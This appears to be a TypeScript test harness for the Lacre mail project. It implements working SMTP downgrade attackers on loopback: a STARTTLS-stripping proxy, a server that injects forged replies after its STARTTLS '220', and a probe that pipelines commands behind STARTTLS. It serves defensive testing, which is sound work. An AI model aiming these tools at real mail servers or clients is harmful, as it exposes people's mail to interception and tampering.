// Attackers on loopback, for proving that Lacre's SMTP client and server refuse to be downgraded:
// - a STARTTLS-stripping proxy (the active attacker between MTAs, and the Cisco-style "XXXXXXXA"
//   firewall), recording whether the client went on to send its envelope in plaintext;
// - a hand-written SMTP server that answers STARTTLS with "220" plus extra plaintext replies in the
//   same write (response injection, the 2021 "NO STARTTLS" client-side attack): a correct client
//   discards them (RFC 3207 section 4.2 / 6) or aborts. Optionally it also keeps plaintext that
//   trailed the client's STARTTLS and executes it inside TLS (the CVE-2011-0411 server bug), which
//   is the positive control for...
// - a probe that pipelines a command behind STARTTLS and reports whether the server answered it
//   over TLS (command injection), for testing Lacre's own submission server.
// These speak raw SMTP on purpose: a real SMTP library would refuse to misbehave this way.
import net from 'node:net';
import tls from 'node:tls';
import type { Duplex } from 'node:stream';
import type { IssuedCert } from './ca.ts';

const DEFAULT_WAIT_MS = 5000;

type Falsy = undefined | null | false | 0 | '';

// ---------------------------------------------------------------------------------------------
// Reading SMTP replies off a raw socket

export interface RawReply {
  code: number;
  /** Text after "NNN-" / "NNN " on each line. */
  lines: string[];
  /** The reply as received, CRLFs included. */
  raw: string;
}

/**
 * Collects complete SMTP replies from a socket. Bytes are kept as latin1 so nothing is lost;
 * `stop()` detaches and hands back whatever was received but not yet returned, which is how a
 * STARTTLS client gets at the plaintext that trailed the 220.
 */
export class ReplyReader {
  #socket: Duplex;
  #buffer = '';
  #replies: RawReply[] = [];
  #wake: (() => void) | undefined;
  #ended = false;
  #onData = (chunk: Buffer) => {
    this.#buffer += chunk.toString('latin1');
    this.#parse();
    this.#wake?.();
  };
  #onEnd = () => {
    this.#ended = true;
    this.#wake?.();
  };

  constructor(socket: Duplex) {
    this.#socket = socket;
    socket.on('data', this.#onData);
    socket.on('close', this.#onEnd);
    socket.on('end', this.#onEnd);
  }

  #parse() {
    for (;;) {
      let pos = 0;
      const lines: string[] = [];
      let done = false;
      while (!done) {
        const nl = this.#buffer.indexOf('\n', pos);
        if (nl < 0) return;
        const line = this.#buffer.slice(pos, nl).replace(/\r$/, '');
        pos = nl + 1;
        lines.push(line);
        done = !/^\d{3}-/.test(line);
      }
      const raw = this.#buffer.slice(0, pos);
      this.#buffer = this.#buffer.slice(pos);
      const last = lines[lines.length - 1];
      this.#replies.push({
        code: /^\d{3}/.test(last) ? Number(last.slice(0, 3)) : 0,
        lines: lines.map((l) => l.slice(4)),
        raw,
      });
    }
  }

  /** The next complete reply; rejects after timeoutMs or if the socket ends first. */
  async next(timeoutMs = DEFAULT_WAIT_MS): Promise<RawReply> {
    const deadline = Date.now() + timeoutMs;
    for (;;) {
      const r = this.#replies.shift();
      if (r) return r;
      if (this.#ended) throw new Error(`connection closed while waiting for a reply (pending: ${JSON.stringify(this.#buffer)})`);
      const left = deadline - Date.now();
      if (left <= 0) throw new Error(`no SMTP reply within ${timeoutMs} ms (pending: ${JSON.stringify(this.#buffer)})`);
      await new Promise<void>((resolve) => {
        const t = setTimeout(resolve, left);
        this.#wake = () => {
          clearTimeout(t);
          this.#wake = undefined;
          resolve();
        };
      });
    }
  }

  /** Every reply that arrives within `ms`, without asking for anything. */
  async collect(ms: number): Promise<RawReply[]> {
    await new Promise((r) => setTimeout(r, ms));
    return this.#replies.splice(0);
  }

  get ended(): boolean {
    return this.#ended;
  }

  /** Detaches from the socket and returns every byte not yet handed out as a reply. */
  stop(): string {
    this.#socket.off('data', this.#onData);
    this.#socket.off('close', this.#onEnd);
    this.#socket.off('end', this.#onEnd);
    const rest = this.#replies.map((r) => r.raw).join('') + this.#buffer;
    this.#replies = [];
    this.#buffer = '';
    return rest;
  }
}

export function connectPlain(port: number, host = '127.0.0.1', timeoutMs = DEFAULT_WAIT_MS): Promise<net.Socket> {
  return new Promise((resolve, reject) => {
    const s = net.connect({ port, host });
    const t = setTimeout(() => {
      s.destroy();
      reject(new Error(`connect to ${host}:${port} timed out`));
    }, timeoutMs);
    s.once('connect', () => {
      clearTimeout(t);
      s.off('error', reject);
      s.on('error', () => {}); // later resets are part of what tests provoke
      resolve(s);
    });
    s.once('error', (err) => {
      clearTimeout(t);
      reject(err);
    });
  });
}

/** Client-side TLS over an existing plaintext socket (after a 220 to STARTTLS). */
export function startTlsClient(socket: net.Socket, options: tls.ConnectionOptions = {}, timeoutMs = DEFAULT_WAIT_MS): Promise<tls.TLSSocket> {
  return new Promise((resolve, reject) => {
    const t = tls.connect({ socket, rejectUnauthorized: false, ...options });
    const timer = setTimeout(() => {
      t.destroy();
      reject(new Error(`TLS handshake timed out after ${timeoutMs} ms`));
    }, timeoutMs);
    t.once('secureConnect', () => {
      clearTimeout(timer);
      t.off('error', reject);
      t.on('error', () => {});
      resolve(t);
    });
    t.once('error', (err) => {
      clearTimeout(timer);
      reject(err);
    });
  });
}

// ---------------------------------------------------------------------------------------------
// Shared bits

function listen(server: net.Server): Promise<number> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => {
      server.off('error', reject);
      resolve((server.address() as net.AddressInfo).port);
    });
  });
}

function makeWaitFor(waiters: Set<() => void>, label: string) {
  return <T>(predicate: () => T | Falsy, timeoutMs = DEFAULT_WAIT_MS, what = 'condition') =>
    new Promise<T>((resolve, reject) => {
      const finish = () => {
        clearTimeout(timer);
        waiters.delete(check);
      };
      const check = () => {
        const v = predicate();
        if (v) {
          finish();
          resolve(v);
        }
      };
      const timer = setTimeout(() => {
        finish();
        reject(new Error(`${label}: timed out after ${timeoutMs} ms waiting for ${what}`));
      }, timeoutMs);
      waiters.add(check);
      check();
    });
}

function closeServer(server: net.Server, sockets: Set<net.Socket>): Promise<void> {
  return new Promise((resolve) => {
    server.close(() => resolve());
    for (const s of sockets) s.destroy();
  });
}

/** Splits off complete CRLF/LF-terminated lines; returns [lines, rest]. */
function takeLines(buffer: string): [string[], string] {
  const lines: string[] = [];
  let pos = 0;
  for (;;) {
    const nl = buffer.indexOf('\n', pos);
    if (nl < 0) break;
    lines.push(buffer.slice(pos, nl + 1));
    pos = nl + 1;
  }
  return [lines, buffer.slice(pos)];
}

const bare = (line: string) => line.replace(/\r?\n$/, '');

// ---------------------------------------------------------------------------------------------
// STARTTLS-stripping proxy

export interface StripTlsProxyOptions {
  target: { host: string; port: number };
  /**
   * What a client's STARTTLS gets: `refuse` (default) answers it with `refusal` itself, `ignore`
   * swallows it and never answers, `relay` forwards it and then relays blindly (TLS end to end,
   * the proxy only stripped the advertisement).
   */
  onStartTls?: 'refuse' | 'ignore' | 'relay';
  /** `remove` (default) drops the STARTTLS line from EHLO replies; `garble` overwrites it as some firewalls do. */
  rewrite?: 'remove' | 'garble';
  refusal?: string;
}

export interface ProxySession {
  /** Command lines the client sent (message content excluded), in order. */
  clientCommands: string[];
  /** A STARTTLS line was removed or garbled in an EHLO reply. */
  strippedStartTls: boolean;
  startTlsAttempted: boolean;
  /** STARTTLS went through (relay mode); from then on the proxy saw only ciphertext. */
  relayedTls: boolean;
  /** The client sent MAIL FROM where the proxy could read it: what an enforced policy must prevent. */
  plaintextMailFrom: boolean;
  plaintextRcptTo: boolean;
  /** The client sent message content in plaintext. */
  plaintextData: boolean;
  closed: boolean;
}

export interface StripTlsProxy {
  readonly host: '127.0.0.1';
  readonly port: number;
  readonly sessions: ProxySession[];
  waitFor<T>(predicate: () => T | Falsy, timeoutMs?: number, what?: string): Promise<T>;
  close(): Promise<void>;
}

const UPSTREAM = Symbol('reply from upstream');

export const DEFAULT_STARTTLS_REFUSAL = '454 4.7.0 TLS not available due to local problem';

export async function startStripTlsProxy(options: StripTlsProxyOptions): Promise<StripTlsProxy> {
  const onStartTls = options.onStartTls ?? 'refuse';
  const rewrite = options.rewrite ?? 'remove';
  const refusal = options.refusal ?? DEFAULT_STARTTLS_REFUSAL;
  const sessions: ProxySession[] = [];
  const sockets = new Set<net.Socket>();
  const waiters = new Set<() => void>();
  const notify = () => {
    for (const w of [...waiters]) w();
  };
  const track = (s: net.Socket) => {
    sockets.add(s);
    s.setNoDelay(true); // a relayed reply and a local one back to back must not wait on Nagle
    s.on('error', () => {});
    s.once('close', () => sockets.delete(s));
  };

  const server = net.createServer((client) => {
    track(client);
    const rec: ProxySession = {
      clientCommands: [],
      strippedStartTls: false,
      startTlsAttempted: false,
      relayedTls: false,
      plaintextMailFrom: false,
      plaintextRcptTo: false,
      plaintextData: false,
      closed: false,
    };
    sessions.push(rec);
    const upstream = net.connect(options.target);
    track(upstream);
    client.pause(); // nothing to forward to until upstream is connected
    upstream.once('connect', () => client.resume());

    let blind = false;
    let dataMode = false;
    let clientBuf = '';
    let serverBuf = '';
    let pendingReply: string[] = [];
    // Replies owed to the client, in command order: the proxy's own refusal must not overtake
    // the upstream reply to a command the client pipelined before its STARTTLS.
    const owed: Array<string | typeof UPSTREAM> = [UPSTREAM]; // the greeting
    const flushLocal = () => {
      while (typeof owed[0] === 'string') client.write(owed.shift() as string);
    };

    const closeBoth = () => {
      if (!rec.closed) {
        rec.closed = true;
        notify();
      }
      client.destroy();
      upstream.destroy();
    };
    client.once('close', closeBoth);
    upstream.once('close', closeBoth);

    client.on('data', (chunk: Buffer) => {
      if (blind) return void upstream.write(chunk);
      const [lines, rest] = takeLines(clientBuf + chunk.toString('latin1'));
      clientBuf = rest;
      for (const raw of lines) {
        if (blind) {
          upstream.write(Buffer.from(raw, 'latin1'));
          continue;
        }
        const line = bare(raw);
        if (dataMode) {
          rec.plaintextData = true;
          if (line === '.') {
            dataMode = false;
            owed.push(UPSTREAM);
          }
          upstream.write(Buffer.from(raw, 'latin1'));
          continue;
        }
        rec.clientCommands.push(line);
        if (/^MAIL\s+FROM\s*:/i.test(line)) rec.plaintextMailFrom = true;
        if (/^RCPT\s+TO\s*:/i.test(line)) rec.plaintextRcptTo = true;
        if (/^STARTTLS\s*$/i.test(line)) {
          rec.startTlsAttempted = true;
          if (onStartTls === 'refuse') {
            owed.push(refusal + '\r\n');
            flushLocal();
          }
          if (onStartTls === 'relay') {
            owed.push(UPSTREAM);
            upstream.write(Buffer.from(raw, 'latin1'));
            // After the server's 220 both ends speak TLS: from here on, bytes pass untouched.
            blind = true;
            rec.relayedTls = true;
          }
          notify();
          continue;
        }
        owed.push(UPSTREAM);
        upstream.write(Buffer.from(raw, 'latin1'));
      }
      if (blind && clientBuf) {
        upstream.write(Buffer.from(clientBuf, 'latin1'));
        clientBuf = '';
      }
      notify();
    });

    upstream.on('data', (chunk: Buffer) => {
      if (blind && serverBuf === '' && pendingReply.length === 0) return void client.write(chunk);
      const [lines, rest] = takeLines(serverBuf + chunk.toString('latin1'));
      serverBuf = rest;
      for (const raw of lines) {
        pendingReply.push(raw);
        if (/^\d{3}-/.test(raw)) continue;
        client.write(Buffer.from(rewriteReply(pendingReply).join(''), 'latin1'));
        if (/^354[ \r\n]/.test(raw)) dataMode = true;
        pendingReply = [];
        if (owed[0] === UPSTREAM) owed.shift();
        flushLocal();
      }
      if (blind && serverBuf) {
        client.write(Buffer.from(serverBuf, 'latin1'));
        serverBuf = '';
      }
    });

    // Drops or garbles STARTTLS in a complete multiline reply, keeping the continuation marks right.
    const rewriteReply = (reply: string[]): string[] => {
      if (reply.length < 2 || !reply.some((l) => /^\d{3}[ -]STARTTLS\b/i.test(l))) return reply;
      rec.strippedStartTls = true;
      notify();
      if (rewrite === 'garble') return reply.map((l) => l.replace(/^(\d{3}[ -])STARTTLS/i, '$1XXXXXXXA'));
      const kept = reply.filter((l) => !/^\d{3}[ -]STARTTLS\b/i.test(l));
      return kept.map((l, i) => l.slice(0, 3) + (i === kept.length - 1 ? ' ' : '-') + l.slice(4));
    };
  });

  const port = await listen(server);
  return {
    host: '127.0.0.1',
    port,
    sessions,
    waitFor: makeWaitFor(waiters, `strip-tls proxy on port ${port}`),
    close: () => closeServer(server, sockets),
  };
}

// ---------------------------------------------------------------------------------------------
// STARTTLS response-injection server

/** A whole fake EHLO reply: a vulnerable client takes it as the answer to its post-TLS EHLO. */
export const DEFAULT_INJECTION = '250-injected.invalid says hello\r\n250 AUTH PLAIN\r\n';

export interface InjectionSinkOptions {
  cert: IssuedCert;
  hostname?: string;
  /** Plaintext appended to the "220" reply to STARTTLS, in the same write. '' injects nothing. */
  inject?: string;
  /**
   * Keep plaintext the client sent after STARTTLS and execute it once TLS is up, replying over
   * TLS (the CVE-2011-0411 server bug). Off by default: the data is recorded and dropped.
   */
  executePlaintextAfterStartTls?: boolean;
}

export interface InjectionSession {
  commandsBeforeTls: string[];
  commandsAfterTls: string[];
  /** What was appended to the 220 for this session. */
  injected: string;
  /** Plaintext the client sent between its STARTTLS and the handshake. */
  plaintextAfterStartTls: string;
  tls: boolean;
  tlsProtocol?: string;
  /** Messages received over TLS (dot-unstuffed). */
  messages: Buffer[];
  closed: boolean;
}

export interface InjectionSink {
  readonly host: '127.0.0.1';
  readonly port: number;
  readonly sessions: InjectionSession[];
  waitFor<T>(predicate: () => T | Falsy, timeoutMs?: number, what?: string): Promise<T>;
  close(): Promise<void>;
}

export async function startStartTlsInjectionSink(options: InjectionSinkOptions): Promise<InjectionSink> {
  const name = options.hostname ?? 'inject.lacre.test';
  const inject = options.inject ?? DEFAULT_INJECTION;
  const secureContext = tls.createSecureContext({
    key: options.cert.keyPem,
    cert: options.cert.chainPem,
    minVersion: 'TLSv1.2',
  });
  const sessions: InjectionSession[] = [];
  const sockets = new Set<net.Socket>();
  const waiters = new Set<() => void>();
  const notify = () => {
    for (const w of [...waiters]) w();
  };

  const server = net.createServer((plain) => {
    sockets.add(plain);
    plain.setNoDelay(true);
    plain.on('error', () => {});
    const rec: InjectionSession = {
      commandsBeforeTls: [],
      commandsAfterTls: [],
      injected: '',
      plaintextAfterStartTls: '',
      tls: false,
      messages: [],
      closed: false,
    };
    sessions.push(rec);
    plain.once('close', () => {
      sockets.delete(plain);
      rec.closed = true;
      notify();
    });

    let io: net.Socket = plain;
    let buf = '';
    let data: string[] | undefined; // message lines while in DATA
    let upgrading = false;

    const reply = (text: string) => io.write(text + '\r\n');

    const handle = (raw: string) => {
      const line = bare(raw);
      if (data) {
        if (line === '.') {
          rec.messages.push(Buffer.from(data.join(''), 'latin1'));
          data = undefined;
          reply('250 2.0.0 Message accepted');
        } else {
          data.push(raw.startsWith('.') ? raw.slice(1) : raw);
        }
        return;
      }
      (rec.tls ? rec.commandsAfterTls : rec.commandsBeforeTls).push(line);
      const verb = line.split(/[\s:]/, 1)[0].toUpperCase();
      switch (verb) {
        case 'EHLO':
          reply(
            rec.tls
              ? `250-${name}\r\n250-PIPELINING\r\n250 8BITMIME`
              : `250-${name}\r\n250-PIPELINING\r\n250-8BITMIME\r\n250 STARTTLS`,
          );
          break;
        case 'HELO':
          reply(`250 ${name}`);
          break;
        case 'STARTTLS':
          if (rec.tls) return reply('503 5.5.1 TLS already active');
          // The attack: the 220 and the forged replies leave in one segment, before any TLS.
          io.write(`220 2.0.0 Ready to start TLS\r\n${inject}`);
          rec.injected = inject;
          upgrading = true;
          break;
        case 'MAIL':
          reply('250 2.1.0 OK');
          break;
        case 'RCPT':
          reply('250 2.1.5 OK');
          break;
        case 'DATA':
          data = [];
          reply('354 End data with <CR><LF>.<CR><LF>');
          break;
        case 'RSET':
          data = undefined;
          reply('250 2.0.0 Reset');
          break;
        case 'NOOP':
          reply('250 2.0.0 OK');
          break;
        case 'QUIT':
          reply('221 2.0.0 Bye');
          io.end();
          break;
        default:
          reply('500 5.5.2 Unrecognized command');
      }
      notify();
    };

    const consume = (chunk: string) => {
      const [lines, rest] = takeLines(buf + chunk);
      buf = rest;
      for (let i = 0; i < lines.length; i++) {
        handle(lines[i]);
        if (upgrading) {
          const trailing = lines.slice(i + 1).join('') + buf;
          buf = '';
          upgrade(trailing);
          return;
        }
      }
    };

    const onPlainData = (chunk: Buffer) => consume(chunk.toString('latin1'));
    plain.on('data', onPlainData);

    const upgrade = (trailing: string) => {
      plain.off('data', onPlainData);
      rec.plaintextAfterStartTls = trailing;
      const secure = new tls.TLSSocket(plain, { isServer: true, secureContext });
      sockets.add(secure);
      secure.on('error', () => {});
      secure.once('close', () => sockets.delete(secure));
      secure.once('secure', () => {
        upgrading = false;
        rec.tls = true;
        rec.tlsProtocol = secure.getProtocol() ?? undefined;
        io = secure;
        secure.on('data', (chunk: Buffer) => consume(chunk.toString('latin1')));
        notify();
        if (options.executePlaintextAfterStartTls && trailing) consume(trailing);
      });
    };

    reply(`220 ${name} ESMTP`);
  });

  const port = await listen(server);
  return {
    host: '127.0.0.1',
    port,
    sessions,
    waitFor: makeWaitFor(waiters, `injection sink on port ${port}`),
    close: () => closeServer(server, sockets),
  };
}

// ---------------------------------------------------------------------------------------------
// STARTTLS command-injection probe (client side, against a server under test)

export interface InjectionProbeOptions {
  host?: string;
  port: number;
  /** Sent in the same packet right after STARTTLS. */
  injected?: string;
  ehloName?: string;
  /** Options for the handshake; verification is off unless you turn it on (the server's logic is under test, not its certificate). */
  tls?: tls.ConnectionOptions;
  /** How long to listen for replies nobody asked for, after the handshake and after the EHLO. */
  settleMs?: number;
  timeoutMs?: number;
}

export interface InjectionProbeResult {
  greeting: RawReply;
  ehloBeforeTls: RawReply;
  startTlsReply: RawReply;
  /** Bytes after the STARTTLS reply that came in plaintext (a server answering the injected command before TLS). */
  plaintextAfterStartTlsReply: string;
  tls: boolean;
  tlsProtocol?: string;
  /** Replies that arrived over TLS before the probe had sent anything. */
  unpromptedRepliesAfterTls: RawReply[];
  /** Every reply received over TLS after the probe sent its one EHLO (more than one means something else was answered). */
  repliesToEhloAfterTls: RawReply[];
  /** The server answered the injected command inside the TLS session. */
  injectedCommandExecuted: boolean;
}

export async function probeStartTlsInjection(options: InjectionProbeOptions): Promise<InjectionProbeResult> {
  const injected = options.injected ?? 'RSET';
  const ehloName = options.ehloName ?? 'probe.lacre.test';
  const settleMs = options.settleMs ?? 300;
  const timeoutMs = options.timeoutMs ?? DEFAULT_WAIT_MS;
  const plain = await connectPlain(options.port, options.host, timeoutMs);
  let secure: tls.TLSSocket | undefined;
  try {
    const reader = new ReplyReader(plain);
    const greeting = await reader.next(timeoutMs);
    plain.write(`EHLO ${ehloName}\r\n`);
    const ehloBeforeTls = await reader.next(timeoutMs);
    plain.write(`STARTTLS\r\n${injected}\r\n`); // one write, one segment on loopback
    const startTlsReply = await reader.next(timeoutMs);
    const base = { greeting, ehloBeforeTls, startTlsReply };
    if (startTlsReply.code !== 220) {
      return {
        ...base,
        plaintextAfterStartTlsReply: reader.stop(),
        tls: false,
        unpromptedRepliesAfterTls: [],
        repliesToEhloAfterTls: [],
        injectedCommandExecuted: false,
      };
    }
    const plaintextAfterStartTlsReply = reader.stop();
    secure = await startTlsClient(plain, { servername: 'localhost', ...options.tls }, timeoutMs);
    const tlsReader = new ReplyReader(secure);
    const unpromptedRepliesAfterTls = await tlsReader.collect(settleMs);
    secure.write(`EHLO ${ehloName}\r\n`);
    const first = await tlsReader.next(timeoutMs).then(
      (r) => [r],
      () => [],
    );
    const repliesToEhloAfterTls = [...first, ...(await tlsReader.collect(settleMs))];
    secure.write('QUIT\r\n');
    return {
      ...base,
      plaintextAfterStartTlsReply,
      tls: true,
      tlsProtocol: secure.getProtocol() ?? undefined,
      unpromptedRepliesAfterTls,
      repliesToEhloAfterTls,
      injectedCommandExecuted: unpromptedRepliesAfterTls.length > 0 || repliesToEhloAfterTls.length > 1,
    };
  } finally {
    secure?.destroy();
    plain.destroy();
  }
}
